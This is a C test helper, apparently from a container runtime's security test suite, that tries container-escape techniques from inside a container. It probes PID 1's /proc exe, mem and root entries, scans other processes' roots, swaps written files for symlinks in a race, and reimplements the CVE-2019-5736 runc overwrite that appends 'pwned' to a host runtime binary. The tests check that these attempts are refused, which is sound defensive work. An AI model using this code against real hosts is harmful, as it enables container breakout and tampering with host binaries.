// tests/attack.c: what a hostile process inside a container tries (tests/attacks.bats),
// built static so that it runs in any image. Each mode prints what it reached; the tests
// decide what must not be.
//   attack pid1-exe PID        open PID's exe, map_files, mem, root: one line each
//   attack watch-root PATH SECS  for SECS seconds, every other process's /proc/N/root/PATH:
//                              "reached N" when one opens (a process still in the host's root),
//                              "privileged N" when one holds a capability the watcher lacks
//   attack overwrite-exe NAME SECS  any process whose exe's name holds NAME: its exe held by
//                              O_PATH, then reopened for writing once no process runs it,
//                              and a line appended: "wrote NAME" (runc's CVE-2019-5736)
//   attack swap-on-close DIR LINK SECS  once DIR exists, each file written in it replaced by a
//                              symlink to LINK as soon as its writer closes it: "swapped N"
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static void try_open(const char *what, const char *path, int flags)
{
	int fd = open(path, flags | O_CLOEXEC);
	if (fd < 0) {
		printf("%s: refused (%s)\n", what, strerror(errno));
		return;
	}
	struct stat st;
	fstat(fd, &st);
	printf("%s: opened dev %lu ino %lu\n", what, (unsigned long)st.st_dev, (unsigned long)st.st_ino);
	close(fd);
}

static int pid1_exe(const char *pid)
{
	char path[256];
	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	try_open("exe read", path, O_RDONLY);
	try_open("exe path", path, O_PATH);
	try_open("exe write", path, O_WRONLY);
	snprintf(path, sizeof path, "/proc/%s/mem", pid);
	try_open("mem", path, O_RDONLY);
	snprintf(path, sizeof path, "/proc/%s/root/.", pid);
	try_open("root", path, O_RDONLY | O_DIRECTORY);
	snprintf(path, sizeof path, "/proc/%s/map_files", pid);
	DIR *d = opendir(path);
	int files = 0;
	if (d) {
		for (struct dirent *e; (e = readdir(d));) {
			if (e->d_name[0] == '.')
				continue;
			char f[512];
			snprintf(f, sizeof f, "%s/%s", path, e->d_name);
			int fd = open(f, O_RDONLY | O_CLOEXEC);
			if (fd >= 0)
				files++, close(fd);
		}
		closedir(d);
	}
	printf("map_files: %d opened\n", files);
	return 0;
}

// The effective capabilities in /proc/PID/status, 0 when it cannot be read.
static unsigned long long cap_eff(const char *pid)
{
	char path[64], text[4096];
	snprintf(path, sizeof path, "/proc/%s/status", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	ssize_t n = read(fd, text, sizeof text - 1);
	close(fd);
	text[n > 0 ? n : 0] = 0;
	char *line = strstr(text, "CapEff:");
	return line ? strtoull(line + 7, NULL, 16) : 0;
}

static int watch_root(const char *target, int secs)
{
	unsigned long long mine = cap_eff("self");
	char self[16];
	snprintf(self, sizeof self, "%d", getpid());
	time_t end = time(NULL) + secs;
	long rounds = 0;
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		if (!d)
			return 2;
		for (struct dirent *e; (e = readdir(d));) {
			if (e->d_name[0] < '0' || e->d_name[0] > '9' || strcmp(e->d_name, self) == 0 || strcmp(e->d_name, "1") == 0)
				continue;
			char path[512];
			snprintf(path, sizeof path, "/proc/%s/root/%s", e->d_name, target);
			int fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd >= 0) {
				printf("reached %s through /proc/%s/root\n", target, e->d_name);
				fflush(stdout);
				close(fd);
			}
			unsigned long long caps = cap_eff(e->d_name);
			if (caps & ~mine)
				printf("privileged %s: CapEff %llx beyond %llx\n", e->d_name, caps, mine);
		}
		closedir(d);
		rounds++;
	}
	printf("watched %ld rounds\n", rounds);
	return 0;
}

static int overwrite_exe(const char *name, int secs)
{
	char self[16];
	snprintf(self, sizeof self, "%d", getpid());
	time_t end = time(NULL) + secs;
	int held = -1;
	printf("ready\n");
	while (held < 0 && time(NULL) < end) {
		DIR *d = opendir("/proc");
		for (struct dirent *e; d && (e = readdir(d));) {
			if (e->d_name[0] < '0' || e->d_name[0] > '9' || strcmp(e->d_name, self) == 0 || strcmp(e->d_name, "1") == 0)
				continue; // PID 1 (the container's launcher): attacks.bats's pid1-exe tries it
			char path[300], link[512];
			snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
			ssize_t n = readlink(path, link, sizeof link - 1);
			if (n <= 0)
				continue;
			link[n] = 0;
			if (strstr(link, name) &&
			    (held = open(path, O_PATH | O_CLOEXEC)) >= 0) {
				printf("held %s (%s)\n", link, e->d_name);
				break;
			}
		}
		if (d)
			closedir(d);
	}
	while (held >= 0 && time(NULL) < end) {
		char path[64];
		snprintf(path, sizeof path, "/proc/self/fd/%d", held);
		int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (w >= 0) {
			ssize_t n = write(w, "pwned\n", 6);
			printf(n == 6 ? "wrote %s\n" : "%s: opened, not written: %s\n", name, n == 6 ? "" : strerror(errno));
			close(w);
			return 0;
		}
		usleep(1000);
	}
	printf("gave up\n");
	return 0;
}

static int swap_on_close(const char *dir, const char *link, int secs)
{
	time_t end = time(NULL) + secs;
	printf("ready\n");
	int in = inotify_init1(IN_NONBLOCK | IN_CLOEXEC), dfd = -1;
	while (time(NULL) < end && inotify_add_watch(in, dir, IN_CLOSE_WRITE) < 0) {
	}
	dfd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	long swapped = 0;
	char buf[65536];
	while (dfd >= 0 && time(NULL) < end) {
		ssize_t n = read(in, buf, sizeof buf);
		for (char *p = buf; n > 0 && p < buf + n;) {
			struct inotify_event *e = (struct inotify_event *)p;
			if (e->len && unlinkat(dfd, e->name, 0) == 0 && symlinkat(link, dfd, e->name) == 0)
				swapped++;
			p += sizeof *e + e->len;
		}
	}
	printf("swapped %ld\n", swapped);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 3 && strcmp(argv[1], "pid1-exe") == 0)
		return pid1_exe(argv[2]);
	if (argc == 4 && strcmp(argv[1], "watch-root") == 0)
		return watch_root(argv[2], atoi(argv[3]));
	if (argc == 4 && strcmp(argv[1], "overwrite-exe") == 0)
		return overwrite_exe(argv[2], atoi(argv[3]));
	if (argc == 5 && strcmp(argv[1], "swap-on-close") == 0)
		return swap_on_close(argv[2], argv[3], atoi(argv[4]));
	fprintf(stderr, "usage: attack pid1-exe PID | watch-root PATH SECS | overwrite-exe NAME SECS | swap-on-close DIR LINK SECS\n");
	return 2;
}
